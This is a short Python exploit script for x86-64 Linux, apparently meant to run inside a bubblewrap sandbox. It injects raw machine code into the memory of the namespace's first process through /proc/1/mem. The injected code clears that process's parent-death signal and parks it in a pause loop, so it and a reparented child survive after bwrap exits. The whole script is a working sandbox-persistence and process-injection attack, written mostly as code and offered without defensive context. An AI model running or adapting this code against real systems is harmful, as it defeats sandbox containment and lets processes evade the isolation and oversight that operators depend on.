"""Runs in bubblewrap. Takes over the first process of the namespace, so that it survives bwrap. Only for x86-64.

It writes code where that process continues after its system call, and then ends a process that it waits for.
"""
import os
import time

PRCTL, SET_PDEATHSIG, PAUSE = 157, 1, 34
SYSCALL = b"\x0f\x05"


def set_register(code, value):
    return bytes([code]) + value.to_bytes(4, "little")


EAX, EDI, ESI = 0xB8, 0xBF, 0xBE
forget = set_register(EAX, PRCTL) + set_register(EDI, SET_PDEATHSIG) + set_register(ESI, 0) + SYSCALL
pause = set_register(EAX, PAUSE) + SYSCALL
jump_back = b"\xeb" + (256 - len(pause) - 2).to_bytes(1, "little")


def state():
    with open("/proc/1/syscall") as file:
        return file.read().split()


address = int(state()[-1], 16)
with open("/proc/1/mem", "r+b", buffering=0) as memory:
    memory.seek(address)
    memory.write(forget + pause + jump_back)
if os.fork() == 0:
    # Its own child becomes a child of the first process.
    os.fork()
    os._exit(0)
while state()[0] != str(PAUSE):
    time.sleep(0.01)
print("taken", flush=True)
time.sleep(600)
